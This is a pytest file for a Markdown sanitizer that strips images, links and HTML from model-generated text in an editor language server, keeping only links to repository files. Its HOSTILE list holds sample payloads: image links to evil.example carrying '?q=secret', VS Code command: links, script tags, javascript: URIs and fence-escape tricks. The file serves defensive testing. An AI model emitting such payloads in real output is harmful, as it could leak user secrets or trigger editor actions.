"""No image, link or markup of a model's making survives; the only links are to files of this repository."""

from __future__ import annotations

import random
import re
from collections.abc import Iterator
from itertools import pairwise

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from lsp_server.actions.markdown import SafeMarkdown, fenced, safe, source_list
from lsp_server.actions.records import Source


def locate(path: str, line: int | None) -> str | None:
    return f"file:///r/{path}{f'#L{line}' if line else ''}" if path in ("src/a.py", "b.go") else None


SHOWN = [
    ("plain **bold** text", "plain **bold** text"),
    ("see src/a.py:12 now", "see [src/a.py:12](file:///r/src/a.py#L12) now"),
    ("see `b.go` now", "see [`b.go`](file:///r/b.go) now"),
    ("see `src/a.py:3-9`.", "see [`src/a.py:3-9`](file:///r/src/a.py#L3)."),
    ("other/src/a.py is not src/a.pyc", "other/src/a.py is not src/a.pyc"),
    ("`x[0]` and x[0]", "`x[0]` and x\\[0\\]"),
    ("a < b & c", "a &lt; b &amp; c"),
    ("```python\nx[0] = '<a>'\n```", "```python\nx[0] = '<a>'\n```"),
    ("    ```py\n    a\n    ```\nb", "```py\na\n```\nb"),
    ("```\nnot closed", "```\nnot closed\n```"),
    ("~~~js\na\n```\n~~~", "~~~js\na\n```\n~~~"),
    ("an odd ` one", "an odd \\` one"),
    ("cited [1] and [2]", "cited [\\[1\\]](file:///r/src/a.py#L4) and \\[2\\]"),
]


@pytest.mark.parametrize(("said", "shown"), SHOWN)
def test_what_is_shown(said: str, shown: str) -> None:
    assert safe(said, locate, (Source("src/a.py", 4, 9, "f"),)) == shown


HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "[click](command:workbench.action.terminal.sendSequence)",
    "[a]: https://evil.example\n![x][a]",
    "<img src='https://evil.example'>",
    "<https://evil.example>",
    "https://evil.example/?q=secret",
    "www.evil.example",
    "` \n` ![x](https://evil.example) `",
    "    ```\n![x](https://evil.example)\n    ```",
    "- ```\n![x](https://evil.example)",
    "> ```\n![x](https://evil.example)\n> ```",
    "``` a`b\n![x](https://evil.example)",
    "\\![x](https://evil.example)",
    "\\\\![x](https://evil.example)",
    "\\`![x](https://evil.example)\\`",
    "`\\`![x](https://evil.example)",
    "![x]\n(https://evil.example)",
    "[![x](https://evil.example)](command:a)",
    "~~~\n```\n~~~\n![x](https://evil.example)\n```",
    "```\n    ```\n```\n![x](https://evil.example)",
    "````\n```\n````\n![x](https://evil.example)",
    "\t```\n![x](https://evil.example)",
    "`` ` ``![x](https://evil.example)",
    "<!-- -->\n<script>alert(1)</script>",
    "javascript:alert(1) data:text/html,x mailto:a@b.example",
    "me@evil.example",
]


def tokens(markdown: str) -> Iterator[Token]:
    """What a reader of Markdown makes of it, flat. rich brings this one along; `html` shows what it would pass through."""
    for token in MarkdownIt("commonmark", {"html": True}).parse(markdown):
        yield token
        yield from token.children or ()


def acts(markdown: str) -> list[str]:
    """What would load, run or be clicked, files of the repository apart."""
    found = []
    for token in tokens(markdown):
        target = str(token.attrs.get("href") or token.attrs.get("src") or "")
        if token.type in ("image", "html_inline", "html_block") or (target and not target.startswith("file:///r/")):
            found.append(f"{token.type} {target}")
        if token.type == "text" and re.search(r"https?:|www\.|command:|javascript:|data:|mailto:|@evil", token.content):
            found.append(f"becomes a link in some clients: {token.content}")
    return found


@pytest.mark.parametrize("said", HOSTILE)
def test_nothing_that_acts_survives(said: str) -> None:
    assert acts(safe(said, locate)) == []


def test_the_same_texts_act_when_nothing_is_done() -> None:
    assert sum(bool(acts(said)) for said in HOSTILE) >= 24


@pytest.mark.parametrize("said", [*HOSTILE, *(said for said, _ in SHOWN)])
def test_it_is_the_same_in_pieces(said: str) -> None:
    sources = (Source("src/a.py", 4, 9, "f"),)
    stream = SafeMarkdown(locate, sources)
    pieces = "".join(stream.feed(character) for character in said)
    assert pieces + stream.end() == safe(said, locate, sources)


def test_it_is_the_same_however_it_is_cut() -> None:
    dice = random.Random(7)
    parts = [
        "`",
        "``",
        "```",
        "\n",
        " ",
        "\t",
        "src/a.py",
        ":12",
        "[1]",
        "a",
        "![x](",
        ")",
        "<b>",
        "http://evil.example",
        "~~~",
        "**",
        "\\",
    ]
    for _ in range(3000):
        said = "".join(dice.choices(parts, k=dice.randrange(1, 14)))
        whole = SafeMarkdown(locate)
        lines = "".join(whole._line(line) + "\n" for line in said.split("\n")[:-1])  # one line after the other, none begun
        whole._rest = said.split("\n")[-1]
        stream = SafeMarkdown(locate)
        cuts = sorted(dice.choices(range(len(said) + 1), k=3))
        pieces = [said[start:end] for start, end in pairwise([0, *cuts, len(said)])]
        assert "".join(map(stream.feed, pieces)) + stream.end() == lines + whole.end(), said


def test_words_come_before_their_line_is_complete() -> None:
    stream = SafeMarkdown(locate)
    assert stream.feed("It adds src/a.py:12 and `a wor") == "It adds [src/a.py:12](file:///r/src/a.py#L12) and "
    assert stream.feed("d` up") == "`a word` "
    assert stream.end() == "up"


def test_code_in_a_fence_cannot_close_it() -> None:
    shown = fenced("a\n```\n![x](https://evil.example)\n````", "py`\n")
    assert shown.startswith("`````\na")
    assert [token.type for token in tokens(shown)] == ["fence"]


def test_sources_are_numbered_links() -> None:
    assert source_list([Source("src/a.py", 4, 9, "f"), Source("gone.py", 1, 1)], locate) == (
        "1. [src/a.py:4](file:///r/src/a.py#L4) `f`\n2. gone.py:1"
    )
